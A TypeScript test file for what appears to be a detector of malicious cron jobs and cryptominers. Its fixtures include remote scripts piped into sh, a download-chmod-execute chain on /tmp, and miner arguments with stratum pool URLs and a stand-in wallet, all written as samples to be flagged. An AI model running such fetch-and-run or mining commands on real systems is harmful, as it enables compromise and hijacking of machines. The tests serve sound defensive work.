import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { surveyed } from '../../test/shared/written.ts';
import { show } from '../show.ts';
import type { FetchAddress } from '../snapshot.ts';
import { minerArguments } from '../verdict/miner-arguments.ts';
import { byteTextOf } from './byte-text.ts';
import { commandFacts, cronCommand, sameDownload } from './commands.ts';
import { isAbsolute } from './paths.ts';

describe('commands', () => {
  it('tell fetching and running from fetching', () => {
    const both = (command: string) => commandFacts(show(command)).fetchesAndRuns;
    expect(both('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).toBe(true);
    expect(both('wget -q -O- http://198.51.100.7:8443/i.sh | sh')).toBe(true);
    expect(both('curl -s http://198.51.100.7/m -o /tmp/m && chmod +x /tmp/m && /tmp/m')).toBe(true);
    expect(both('curl -fsS https://hc.example/ping >/dev/null # healthcheck')).toBe(false);
    expect(both('curl -fsS https://hc.example/status | jq .ok')).toBe(false);
    expect(both('/usr/local/bin/backup --target /srv/backup --quiet')).toBe(false);
  });

  it('of a crontab end at an unescaped percent sign', () => {
    const asRun = cronCommand(show('mail -s x root%hello\\%there'));
    expect(byteTextOf(asRun)).toBe('mail -s x root\nhello%there');
  });

  it('keep every byte of what they start', () => {
    const starts = (bytes: Uint8Array | string) =>
      commandFacts(cronCommand(show(bytes))).program.starts.map(({ path }) => path);
    const odd = Buffer.concat([Buffer.from('/tmp/'), Buffer.of(0xff), Buffer.from('m')]);
    expect(starts(Buffer.concat([odd, Buffer.from(' >/dev/null')]))).toEqual([show(odd)]);
    for (const path of ['/tmp/é/m', '/tmp/à/m', '/tmp/x\u00a0y', '/srv/日本/m'])
      expect(starts(`${path} -x`), path).toEqual([show(path)]);
  });

  it('never fail to be read', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(commandFacts(show(text)).names.every((name) => isAbsolute(name))).toBe(true);
      }),
    );
  });
});

describe('downloads', () => {
  const at = (scheme: string, host: string, port: number, path: string): FetchAddress =>
    surveyed<FetchAddress>({ scheme, host, port, path });
  const address = at('http', '203.0.113.9', 8443, '/i.sh');
  it('are the same by scheme, host and port; on shared hosting by path too', () => {
    expect(sameDownload(address, { ...address, path: show('/other') })).toBe(true);
    expect(sameDownload(address, { ...address, port: 80 })).toBe(false);
    const shared = at('https', 'raw.githubusercontent.com', 443, '/a');
    expect(sameDownload(shared, { ...shared, path: show('/b') })).toBe(false);
    expect(sameDownload(shared, shared)).toBe(true);
  });
});

describe('miner arguments', () => {
  const pools = [{ host: 'pool.example', addresses: ['198.51.100.7'], ports: [] }];
  const found = (line: string) => minerArguments(line.split(' '), pools);
  const wallet = `4A${'DavyLabHarmLessStandin'.repeat(5)}`.slice(0, 95);

  it('are Stratum addresses, miners’ options, algorithms, wallets and known pools', () => {
    for (const line of [
      '-o stratum+tcp://203.0.113.1:3333',
      '--url=stratum+ssl://x.example:443',
      '--donate-level=1',
      '--algo=rx/0',
      '-a cryptonight',
      `-u ${wallet}`,
      `-u ${`4A${'DavyLabHarmLessStandin'.repeat(5)}`.slice(0, 106)}`,
      '-o eu.pool.example:3333',
      '198.51.100.7:3333',
    ]) {
      expect(found(line), line).not.toEqual([]);
    }
  });

  it('are not the arguments of honest programs', () => {
    for (const line of [
      '-D /srv/db --pool-size=10',
      '-o /dev/null http://192.0.2.90:8080/x',
      '--algo sha256',
      '-a -u root',
      '--url https://pooled.example:443',
      '-c user.pool=5',
    ]) {
      expect(found(line), line).toEqual([]);
    }
  });
});
